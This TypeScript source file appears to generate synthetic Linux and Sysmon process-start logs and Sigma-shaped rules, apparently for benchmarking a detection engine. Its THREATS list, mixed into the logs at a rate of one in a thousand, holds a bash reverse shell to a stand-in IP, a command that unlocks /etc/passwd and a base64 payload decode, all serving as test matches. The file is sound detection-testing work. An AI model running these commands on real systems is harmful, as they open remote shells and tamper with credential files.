/** Numbers that look random and are the same in every run (mulberry32). */
export function seeded(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296;
  };
}

const PROGRAMS: readonly (readonly [string, string])[] = [
  ['/usr/bin/python3.11', 'python3 -m mycoswarm daemon --port 7890 --log-level info'],
  ['/usr/bin/git', 'git -C /srv/mycoswarm/workspace/notes status --porcelain=v2 --branch'],
  ['/usr/bin/ls', 'ls -la --color=auto /srv/mycoswarm/workspace/research/2026-11'],
  ['/usr/bin/bash', 'bash -lc cd /srv/mycoswarm/workspace && make -j2 check'],
  ['/usr/bin/grep', 'grep -rn --include=*.py "async def handle_task" src/mycoswarm'],
  ['/usr/sbin/cron', '/usr/sbin/CRON -f -P'],
  ['/usr/lib/systemd/systemd-journald', '/lib/systemd/systemd-journald'],
  ['/usr/bin/gcc', 'gcc -O2 -Wall -Wextra -c -o build/queue.o src/queue.c -Iinclude'],
  ['/usr/bin/sed', 's/^version = .*/version = "0.2.16"/ pyproject.toml'],
  ['/usr/bin/node', 'node /usr/lib/node_modules/npm/bin/npm-cli.js run build --silent'],
  ['/usr/bin/apt-get', 'apt-get -qq -y --no-install-recommends upgrade'],
  ['/usr/bin/rustc', 'rustc --edition 2021 --crate-type lib src/lib.rs -C opt-level=2'],
  ['/usr/bin/cat', 'cat /proc/meminfo'],
  ['/usr/bin/ollama', 'ollama serve'],
];
/** What the public rules find, so that a match is measured too. */
const THREATS: readonly (readonly [string, string])[] = [
  ['/usr/bin/bash', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'],
  ['/usr/bin/chattr', 'chattr -i /etc/passwd'],
  ['/usr/bin/base64', 'base64 -d /tmp/payload'],
];

/** Lines of JSON: starts of programs on a Linux node, one in a thousand of which is something that rules are after. */
export function linuxEvents(count: number): string {
  const random = seeded(7);
  const lines: string[] = [];
  for (let number = 0; number < count; number += 1) {
    const from = random() < 0.001 ? THREATS : PROGRAMS;
    const [image, command] = from[Math.floor(random() * from.length)] ?? ['', ''];
    const [parent, parentCommand] = PROGRAMS[Math.floor(random() * PROGRAMS.length)] ?? ['', ''];
    lines.push(
      JSON.stringify({
        '@timestamp': new Date(1_795_000_000_000 + number * 3).toISOString(),
        ProcessId: 1_000 + Math.floor(random() * 60_000),
        Image: image,
        CommandLine: `${command} ${Math.floor(random() * 1e6).toString(36)}`,
        CurrentDirectory: `/srv/mycoswarm/workspace/task-${Math.floor(random() * 500)}`,
        User: random() < 0.7 ? 'mycoswarm' : 'root',
        LogonId: 1001,
        ParentProcessId: 900 + Math.floor(random() * 100),
        ParentImage: parent,
        ParentCommandLine: parentCommand,
      }),
    );
  }
  return `${lines.join('\n')}\n`;
}

const WORDS =
  'update service agent config runtime library security manager client server network driver host policy windows system shell core data cache sync helper broker print task user profile session token audit event remote local common shared install package module engine monitor control worker queue store index'.split(
    ' ',
  );
const EXECUTABLES = [
  'svchost',
  'explorer',
  'RuntimeBroker',
  'chrome',
  'Teams',
  'OneDrive',
  'SearchIndexer',
  'MsMpEng',
  'conhost',
  'taskhostw',
];

/** Lines of JSON as Sysmon's events are exported: about 1.3 KB, the fields below `Event.EventData`. */
export function windowsEvents(count: number): string {
  const random = seeded(11);
  const word = () => WORDS[Math.floor(random() * WORDS.length)] ?? '';
  const hex = (digits: number) =>
    Array.from({ length: digits }, () => Math.floor(random() * 16).toString(16))
      .join('')
      .toUpperCase();
  const lines: string[] = [];
  for (let number = 0; number < count; number += 1) {
    const name = EXECUTABLES[Math.floor(random() * EXECUTABLES.length)] ?? '';
    const guid = `{${hex(8)}-${hex(4)}-${hex(4)}-${hex(4)}-${hex(12)}}`;
    lines.push(
      JSON.stringify({
        Event: {
          '#attributes': { xmlns: 'http://schemas.microsoft.com/win/2004/08/events/event' },
          System: {
            Provider: { '#attributes': { Name: 'Microsoft-Windows-Sysmon', Guid: guid } },
            EventID: 1,
            Version: 5,
            Level: 4,
            Task: 1,
            Opcode: 0,
            Keywords: '0x8000000000000000',
            TimeCreated: { '#attributes': { SystemTime: '2026-11-22T06:00:00.123456Z' } },
            EventRecordID: 100_000 + number,
            Execution: { '#attributes': { ProcessID: 2_512, ThreadID: 3_140 } },
            Channel: 'Microsoft-Windows-Sysmon/Operational',
            Computer: 'WS-0042.home.arpa',
            Security: { '#attributes': { UserID: 'S-1-5-18' } },
          },
          EventData: {
            RuleName: '-',
            UtcTime: '2026-11-22 06:00:00.123',
            ProcessGuid: guid,
            ProcessId: 4_000 + Math.floor(random() * 9_000),
            Image: `C:\\Windows\\System32\\${name}.exe`,
            FileVersion: '10.0.26100.1',
            Description: `Host process for ${word()} ${word()}`,
            Product: 'Microsoft Windows Operating System',
            Company: 'Microsoft Corporation',
            OriginalFileName: `${name}.exe`,
            CommandLine: `"C:\\Windows\\System32\\${name}.exe" -k ${word()}${word()} -p -s ${word()} --${word()}=${word()} /${word()}:${Math.floor(random() * 1e5)}`,
            CurrentDirectory: 'C:\\Windows\\system32\\',
            User: 'NT AUTHORITY\\SYSTEM',
            LogonGuid: `{${hex(8)}-0000-0000-0000-000000000000}`,
            LogonId: '0x3e7',
            TerminalSessionId: 0,
            IntegrityLevel: 'System',
            Hashes: `SHA256=${hex(64)}`,
            ParentProcessGuid: guid,
            ParentProcessId: 888,
            ParentImage: 'C:\\Windows\\System32\\services.exe',
            ParentCommandLine: 'C:\\Windows\\system32\\services.exe',
            ParentUser: 'NT AUTHORITY\\SYSTEM',
          },
        },
      }),
    );
  }
  return `${lines.join('\n')}\n`;
}

/** Rules in the shapes of public rules for starts of programs on Windows; every one is another. */
export function windowsRules(count: number): { file: string; text: string; origin: 'imported' }[] {
  const random = seeded(13);
  const word = () => WORDS[Math.floor(random() * WORDS.length)] ?? '';
  const made = () => `${word()}${Math.floor(random() * 1e6).toString(36)}`;
  return Array.from({ length: count }, (_, number) => {
    const name = made();
    const shapes = [
      `selection:\n    - Image|endswith: '\\${name}.exe'\n    - OriginalFileName: '${name}.exe'\n  condition: selection`,
      `selection_img:\n    Image|endswith:\n      - '\\${name}.exe'\n      - '\\${made()}.exe'\n  selection_cli:\n    CommandLine|contains|all:\n      - ' -${made()} '\n      - '${word()}'\n  condition: all of selection_*`,
      `selection:\n    CommandLine|contains:\n${Array.from({ length: 3 + Math.floor(random() * 8) }, () => `      - '${made()}'`).join('\n')}\n  filter_main_path:\n    Image|startswith: 'C:\\Program Files\\'\n  condition: selection and not 1 of filter_main_*`,
      `selection:\n    ParentImage|endswith: '\\${name}.exe'\n    Image|endswith:\n      - '\\cmd.exe'\n      - '\\powershell.exe'\n      - '\\conhost.exe'\n  condition: selection`,
      `selection:\n    CommandLine|re: '(?i)\\s-${name}\\s+[a-z0-9+/=]{20,}'\n  condition: selection`,
      `selection:\n    Hashes|contains:\n${Array.from({ length: 4 }, () => `      - 'SHA256=${Math.floor(random() * 1e15).toString(16)}'`).join('\n')}\n  condition: selection`,
      `selection_one:\n    CommandLine|windash|contains: ' -${name} '\n  selection_two:\n    Description: '${made()} ${word()}'\n  condition: 1 of selection_*`,
    ];
    const detection = shapes[number % shapes.length] ?? '';
    return {
      file: `generated-${number}.yml`,
      text: `title: Generated ${number}\nid: generated-${number}\nlogsource:\n  category: process_creation\n  product: windows\ndetection:\n  ${detection}\nlevel: medium\n`,
      origin: 'imported' as const,
    };
  });
}
